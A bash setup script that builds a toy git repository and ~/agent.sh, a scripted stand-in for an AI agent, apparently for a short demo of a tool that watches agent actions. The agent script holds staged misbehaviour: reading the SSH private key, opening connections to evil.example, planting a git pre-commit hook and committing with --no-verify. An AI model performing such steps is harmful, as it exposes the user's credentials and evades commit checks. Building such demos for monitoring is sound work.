#!/usr/bin/env bash
# SPDX-License-Identifier: Apache-2.0
# Makes what the README's five minutes are played with: ~/shop, a small repository, and ~/agent.sh, a script in the
# place of an agent, some of whose acts nobody would want. Both may be removed afterwards.
set -euo pipefail

for there in ~/shop ~/agent.sh; do
        [ ! -e "$there" ] || { printf 'shop.sh: %s is there already; nothing was made\n' "$there" >&2; exit 1; }
done

mkdir -p ~/shop/lib
cd ~/shop
git init -q -b main
printf 'def total(items):\n    return sum(items) + 1\n' >lib/price.py
echo node_modules >.gitignore
git add -A
git -c user.name=You -c user.email=you@example.com commit -qm 'The shop'

cat >~/agent.sh <<'AGENT'
cat ~/.ssh/id_ed25519
sed -i 's/ + 1//' lib/price.py
printf 'from price import total\nassert total([1, 2]) == 3\n' >lib/price_test.py
mkdir -p node_modules/x
echo 1 >node_modules/x/index.js
printf '#!/bin/sh\n' >.git/hooks/pre-commit
chmod +x .git/hooks/pre-commit
for try in 1 2; do
        (exec 3<>/dev/tcp/evil.example/80) 2>/dev/null
done
git add -A
git -c user.name=Agent -c user.email=agent@example.com commit -q --no-verify -m 'Fix the total'
exit 1
AGENT
printf 'made ~/shop and ~/agent.sh; next: cd ~/shop\n'
